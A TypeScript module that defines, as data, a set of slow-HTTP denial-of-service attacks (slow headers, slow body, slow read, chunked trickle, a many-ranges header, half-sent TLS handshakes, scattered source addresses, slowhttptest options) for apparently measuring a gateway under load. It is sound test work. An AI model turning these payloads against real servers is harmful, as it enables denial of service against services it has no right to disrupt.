/** What attackers do, as data: `attacker.ts` does it, or slowhttptest. */
import * as messages from './messages.ts';
import { LARGE, TARGET } from './target.ts';

export interface Attack {
  readonly name: string;
  /** Over TLS, as the client that is measured then is. */
  readonly tls?: boolean;
  /** Connections that are kept open; those that are closed come again. */
  readonly hold?: Held;
  /** Messages, each on a connection of its own, so many a second. */
  readonly send?: { readonly messages: readonly string[]; readonly perSecond: number };
  /** Arguments of slowhttptest. */
  readonly tool?: { readonly path: string; readonly options: readonly string[] };
  /** The gateway has room for fewer connections than there are. */
  readonly overfull?: boolean;
}

export interface Held {
  /** Said once, latin1. */
  readonly begin: string;
  /** Said once a second by each. */
  readonly move: string;
  /** False: what comes is not read. */
  readonly reads: boolean;
  /** Seconds after which those that came first are closed for their time: what that makes the gateway do is measured too. */
  readonly until?: number;
  /** Seconds until one that was closed comes again. Default: 2. */
  readonly again?: number;
  /** Each from an address of its own, also when it comes again. */
  readonly scattered?: boolean;
  /** Each from an address that nobody had before, also when it comes again. */
  readonly evermore?: boolean;
  /** Nothing is encrypted where TLS is spoken: the handshake does not end. */
  readonly bare?: boolean;
}

const HOST = `Host: ${TARGET.host}\r\n`;
const get = (fields: string, target = TARGET.path) => messages.get(fields, target, HOST);
const post = (fields: string) => `POST ${TARGET.path} HTTP/1.1\r\n${HOST}${fields}\r\n`;
const hold = (name: string, begin: string, move = '', rest: Partial<Held & Attack> = {}): Attack => {
  const { tls, overfull, ...held } = rest;
  const where = { ...(tls ? { tls } : {}), ...(overfull ? { overfull } : {}) };
  return { name, hold: { begin, move, reads: true, ...held }, ...where };
};
/** The beginning of a ClientHello. */
const HALF_HELLO = '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03';

/** As `headTime` and `tlsHandshake` have it. */
const [HEAD, HANDSHAKE] = [15, 10];
const HALF_HEAD = `GET ${TARGET.path} HTTP/1.1\r\n${HOST}`;
const HALF_BODY = post('Content-Length: 100000\r\n');
const NOT_READ = { reads: false, again: 10 };

const held = (tls: boolean): Attack[] =>
  [
    hold('idle', get('')),
    hold('nothing said', '', '', { until: HEAD }),
    hold('slow head', HALF_HEAD, 'X: a\r\n', { until: HEAD }),
    hold('slow body', HALF_BODY, 'a'),
    hold('slow read', get('', LARGE), '\r\n', NOT_READ),
    hold('nothing said, no room', '', '', { overfull: true }),
    hold('slow head, no room', HALF_HEAD, 'X: a\r\n', { overfull: true }),
    hold('slow body, no room', HALF_BODY, 'a', { overfull: true }),
    hold('slow read, no room', get('', LARGE), '\r\n', { ...NOT_READ, overfull: true }),
  ].map((each) => (tls ? { ...each, tls } : each));

const HELD: readonly Attack[] = [
  ...held(false),
  hold('slow chunks', post('Transfer-Encoding: chunked\r\n'), '1\r\na\r\n'),
  hold('many ranges', get(`Range: bytes=0-${',5-0'.repeat(1_300)}\r\n`), get('')),
  hold('nothing said, scattered', '', '', { scattered: true }),
  hold('slow body, scattered', HALF_BODY, 'a', { scattered: true }),
  hold('slow body, new addresses', HALF_BODY, 'a', { evermore: true }),
  hold('slow read, scattered', get('', LARGE), '\r\n', { ...NOT_READ, scattered: true }),
  hold('slow read, new addresses', get('', LARGE), '\r\n', { ...NOT_READ, evermore: true }),
  hold('nothing said, scattered, no room', '', '', { overfull: true, scattered: true }),
  hold('slow body, scattered, no room', HALF_BODY, 'a', { overfull: true, scattered: true }),
  ...held(true),
  hold('handshakes begun', HALF_HELLO, '', { tls: true, bare: true, until: HANDSHAKE }),
];

const PER_SECOND = 500;

const SENT: readonly Attack[] = [
  { name: 'whole requests', send: { messages: [get('Connection: close\r\n')], perSecond: PER_SECOND } },
  ...Object.entries(messages.MESSAGES).map(([name, hostile]) => ({
    name,
    send: { messages: hostile.map(({ text }) => text), perSecond: PER_SECOND },
  })),
];

const tool = (name: string, path: string, tls: boolean, ...options: string[]): Attack => ({
  name: `slowhttptest ${name}`,
  tool: { path, options },
  ...(tls ? { tls } : {}),
});

const TOOL = [false, true].flatMap((tls) => [
  tool('-H', TARGET.path, tls, '-H'),
  tool('-B', TARGET.path, tls, '-B', '-s', '100000'),
  tool('-R', TARGET.path, tls, '-R'),
  tool('-X', LARGE, tls, '-X', '-w', '1', '-y', '5', '-n', '5'),
]);

const portOf = ({ tls, overfull }: Attack) => (tls ? 2 : 0) + (overfull ? 1 : 0);

/** Those of one port are next to one another. */
export const ATTACKS: readonly Attack[] = [...HELD, ...SENT, ...TOOL].sort((a, b) => portOf(a) - portOf(b));

/** What an attack is called in arguments and tables. */
export const titleOf = ({ name, tls }: Attack): string => (tls ? `${name}, TLS` : name);
